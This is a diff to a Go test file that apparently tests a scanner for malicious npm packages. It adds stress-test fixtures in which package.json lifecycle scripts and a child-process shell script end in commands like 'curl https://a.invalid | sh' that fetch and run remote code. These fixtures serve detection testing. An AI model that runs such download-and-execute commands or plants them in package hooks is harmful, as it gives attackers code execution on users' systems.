@@ -25,6 +25,9 @@ func TestHostileShellTexts(t *testing.T) {
 		{"commands without end", map[string]string{"package.json": manifest(strings.Repeat("sh a;", 40_000) + "curl https://a.invalid | sh")}, "trait/lifecycle-download"},
 		{"downloads without end", map[string]string{"package.json": manifest(strings.Repeat("curl -o f http://a.invalid/x;", 7_000) + "./f")}, "trait/lifecycle-download"},
 		{"a download far behind", map[string]string{"package.json": manifest("sh -c 'true " + strings.Repeat("; true", 5_000) + "; $(curl https://a.invalid)'")}, "trait/lifecycle-download"},
+		{"programs that start each other", map[string]string{"package.json": manifest(strings.Repeat("nohup ", 40_000) + "x; curl https://a.invalid | sh")}, "trait/lifecycle-download"},
+		{"a shell file that is run without end", map[string]string{"package.json": `{"name": "a", "version": "1.0.0", "main": "x.js"}`,
+			"x.js": "const { exec } = require('child_process')\n" + strings.Repeat("exec('sh x.sh')\n", 3_000), "x.sh": strings.Repeat("true\n", 10_000) + "curl https://a.invalid | sh"}, "trait/shell-download"},
 		{"brackets that do not end", map[string]string{"package.json": manifest("true"), "binding.gyp": strings.Repeat("<!(", 80_000)}, ""},
 		{"actions that do not end", map[string]string{"package.json": manifest("true"), "binding.gyp": "'action': [" + strings.Repeat("'a', ", 40_000)}, ""},
 	} {
